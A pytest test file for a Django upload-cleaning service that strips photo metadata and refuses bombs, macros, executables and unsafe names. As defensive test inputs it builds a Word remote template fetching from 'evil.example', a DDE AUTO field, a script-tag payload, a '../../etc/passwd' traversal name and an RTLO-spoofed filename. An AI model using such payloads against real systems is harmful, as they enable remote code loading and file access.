"""What is kept, what is taken out of it, and what is refused."""

from __future__ import annotations

import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from PIL import Image

from cunli.files import cleaning, images, refusals, rules, services
from cunli.files.models import Kind, StoredFile
from cunli.files.views import respond
from cunli.journal.models import Entry
from cunli.lib.actors import SYSTEM
from tests.cast import NOW, Cast
from tests.files import samples

PLAIN_PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"


@pytest.fixture(autouse=True)
def _own_folder(settings, tmp_path) -> None:
    settings.MEDIA_ROOT = tmp_path


def keep(content: bytes, name: str = "a.jpg", kind: Kind = Kind.DOCUMENT) -> StoredFile:
    return services.keep(actor=SYSTEM, upload=SimpleUploadedFile(name, content), at=NOW, kind=kind)


@pytest.mark.django_db
def test_a_photo_loses_its_place_camera_and_comment_and_stands_upright() -> None:
    sent = samples.photo()
    assert Image.open(io.BytesIO(sent)).getexif().get_ifd(0x8825)
    stored = keep(sent, kind=Kind.PHOTO)
    kept = stored.path.read_bytes()
    picture = Image.open(io.BytesIO(kept))
    assert not dict(picture.getexif())
    assert b"Cunli Phone" not in kept
    assert b"secret comment" not in kept
    assert picture.size == (300, 400)
    assert picture.getpixel((150, 10))[0] > 200, "the red half is on top after turning"
    assert picture.getpixel((150, 10))[2] < 60


@pytest.mark.django_db
def test_a_large_photo_is_made_smaller() -> None:
    stored = keep(samples.photo(size=(6000, 4000), orientation=1), kind=Kind.PHOTO)
    assert max(Image.open(stored.path).size) == rules.MAX_SIDE


@pytest.mark.parametrize("form", ["PNG", "WEBP"])
@pytest.mark.django_db
def test_text_hidden_in_other_pictures_goes_too(form: str) -> None:
    exif = Image.Exif()
    exif[0x010F] = "Cunli Phone"
    written = io.BytesIO()
    Image.new("RGBA", (20, 20)).save(written, form, exif=exif)
    stored = keep(written.getvalue(), kind=Kind.PHOTO)
    assert b"Cunli Phone" in written.getvalue()
    assert b"Cunli Phone" not in stored.path.read_bytes()


@pytest.mark.django_db
def test_a_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = samples.bomb_png()
    assert len(bomb) < 200_000
    with pytest.raises(refusals.Bomb):
        keep(bomb, kind=Kind.PHOTO)
    assert not StoredFile.objects.exists()


def test_progressive_pictures_may_be_less_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "MAX_PIXELS", 1000)
    assert cleaning._cleaned(samples.photo(), kind=Kind.PHOTO)
    with pytest.raises(refusals.Bomb):
        cleaning._cleaned(samples.photo(progressive=True), kind=Kind.PHOTO)


def remote_template() -> bytes:
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return samples.changed(samples.word("x"), word___rels__settings_dot_xml_dot_rels=rels)


def dde_field() -> bytes:
    body = samples.part(samples.word("x"), "word/document.xml").replace(
        b"<w:t>x</w:t>", b"<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x</w:instrText>"
    )
    return samples.changed(samples.word("x"), word__document_dot_xml=body)


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", refusals.Empty),
        (b"MZ\x90\x00 a program", refusals.UnknownType),
        (b"<html><script>alert(1)</script>", refusals.UnknownType),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", refusals.UnknownType),
        (b"GIF89a\x01\x00\x01\x00", refusals.UnknownType),
        (b"\x00\x00\x00\x18ftypheic\x00\x00", refusals.PhoneFormat),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old word", refusals.OldOffice),
        (b"PK\x03\x04 broken", refusals.Unreadable),
        (b"\xff\xd8\xff broken", refusals.Unreadable),
        (samples.photo()[:300], refusals.Unreadable),
        (samples.docm(), refusals.HasMacros),
        (samples.changed(samples.word("x"), word__vbaProject_dot_bin=b"x"), refusals.HasMacros),
        (samples.changed(samples.word("x"), word__embeddings__oleObject1_dot_bin=b"x"), refusals.HasMacros),
        (remote_template(), refusals.HasMacros),
        (dde_field(), refusals.HasMacros),
        (samples.zip_bomb(), refusals.Bomb),
        (b"x" * (rules.MAX_BYTES + 1), refusals.TooLarge),
    ],
)
@pytest.mark.django_db
def test_what_is_refused_says_so_and_leaves_nothing(content: bytes, refusal: type, tmp_path) -> None:
    with pytest.raises(refusal) as told:
        keep(content, name="照片.jpg")
    assert told.value.what
    assert "别的内容都还在" in str(told.value)
    assert not StoredFile.objects.exists()
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


@pytest.mark.django_db
def test_a_word_about_macros_is_no_macro() -> None:
    assert keep(samples.word("请不要用 DDEAUTO 和 INCLUDETEXT，也不要 vbaProject"), "a.docx").media_type == (
        rules.MediaType.DOCX
    )


@pytest.mark.django_db
def test_the_type_comes_from_the_content_not_the_name() -> None:
    assert keep(samples.png(), "合同.docx").name == "合同.png"
    assert keep(samples.word("x"), "合同.jpg").name == "合同.docx"
    assert keep(PLAIN_PDF, "../../etc/passwd").name == "passwd.pdf"
    assert keep(samples.photo(), "IMG.JPEG", kind=Kind.PHOTO).media_type == "image/jpeg"


@pytest.mark.django_db
def test_each_kind_takes_its_own_types() -> None:
    with pytest.raises(refusals.UnknownType):
        keep(PLAIN_PDF, kind=Kind.PHOTO)
    with pytest.raises(refusals.UnknownType):
        keep(samples.png(), kind=Kind.TEMPLATE)


@pytest.mark.parametrize("name", ["", "a/b\\c\u202egnp.exe", "x" * 300 + ".pdf", "..", "\x00.pdf", "CON:.pdf"])
def test_names_are_harmless(name: str) -> None:
    safe = rules.safe_name(name, rules.MediaType.PDF)
    assert re.fullmatch(r"[^\x00-\x1f/\\:\u202e]{1,116}\.pdf", safe)


@pytest.mark.django_db
def test_equal_content_lies_on_disk_once_and_outside_the_web_root(tmp_path) -> None:
    first, second = keep(PLAIN_PDF), keep(PLAIN_PDF)
    assert first.pk != second.pk
    assert first.path == second.path
    assert first.path.parent.parent.parent == tmp_path
    assert Entry.objects.filter(verb="file_kept").count() == 2


@pytest.mark.django_db
def test_a_full_disk_leaves_no_half_file(monkeypatch: pytest.MonkeyPatch, tmp_path) -> None:
    def full(handle: int) -> None:
        raise OSError("No space left on device")

    monkeypatch.setattr("cunli.files.storage.os.fsync", full)
    with pytest.raises(OSError, match="No space"):
        keep(PLAIN_PDF)
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_the_answer_is_safe_to_open() -> None:
    stored = keep(PLAIN_PDF, "低保 材料.pdf")
    answer = respond(stored, inline=True)
    assert answer["Content-Disposition"].startswith("attachment")
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer["Content-Security-Policy"].startswith("sandbox")
    assert b"".join(answer.streaming_content) == PLAIN_PDF
    picture = respond(keep(samples.png(), kind=Kind.PHOTO), inline=True)
    assert picture["Content-Disposition"].startswith("inline")
    again = RequestFactory().get("/", headers={"if-none-match": answer["ETag"]})
    assert respond(stored, request=again).status_code == 304


@pytest.mark.django_db
def test_content_that_is_gone_says_so(tmp_path) -> None:
    stored = keep(PLAIN_PDF)
    stored.path.unlink()
    with pytest.raises(refusals.Missing):
        respond(stored)


def test_the_keeper_is_named(cast: Cast) -> None:
    stored = services.keep(
        actor=cast.actor("grid_member"), upload=SimpleUploadedFile("a.png", samples.png()), at=NOW, kind=Kind.PHOTO
    )
    assert stored.kept_by == cast.users["grid_member"]
